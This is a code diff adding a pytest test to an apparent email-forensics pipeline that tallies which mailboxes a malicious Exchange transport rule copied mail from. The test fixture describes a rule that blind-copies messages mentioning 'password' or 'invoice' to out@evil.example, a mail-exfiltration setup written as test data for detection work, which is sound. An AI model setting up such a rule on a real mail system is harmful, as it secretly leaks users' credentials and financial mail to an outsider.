@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -298,3 +299,29 @@ def test_records_that_are_not_json_do_not_break_it(lived: Scene) -> None:
     lived.event(10, "UpdateInboxRules", raw="[1]")
     lived.event(10, "Set-Mailbox", raw='{"Parameters": "[{"}', user=None, mailbox=None)
     assert copied(lived) == []
+
+
+def test_a_transport_rule_holds_for_its_own_tenant_alone(tmp_path: Path) -> None:
+    """Mail of another organisation that lies in the evidence was never seen by the rule."""
+    import json
+
+    from unsealed import pipeline
+
+    for box in ("alice@agency.example", "someone@elsewhere.example"):
+        (tmp_path / "e" / box / "Inbox").mkdir(parents=True)
+        (tmp_path / "e" / box / "Inbox" / "1.eml").write_text(
+            f"From: x@partner.example\nTo: {box}\nSubject: password\nMessage-ID: <{box}.1>\nDate: Tue, 2 May 2023 10:00:00 +0000\n\nhi\n"
+        )
+    rule = {
+        "CreationTime": "2023-05-01T10:00:00", "Id": "1", "Operation": "New-TransportRule", "RecordType": 1, "Workload": "Exchange",
+        "UserId": "admin@agency.example", "ClientIP": "203.0.113.7:1234", "ResultStatus": "True",
+        "Parameters": [{"Name": "Name", "Value": "."}, {"Name": "BlindCopyTo", "Value": "out@evil.example"},
+                       {"Name": "SubjectOrBodyContainsWords", "Value": "password;invoice"}],
+    }  # fmt: skip
+    (tmp_path / "e" / "log.json").write_text(json.dumps([rule]))
+    (tmp_path / "i.txt").write_text("203.0.113.7")
+    told = pipeline.run(tmp_path / "case", [tmp_path / "e"], indicators=[tmp_path / "i.txt"], workers=0)
+    assert {row["mailbox"]: row["copied"] for row in told["mailboxes"]} == {
+        "alice@agency.example": 1,
+        "someone@elsewhere.example": 0,
+    }
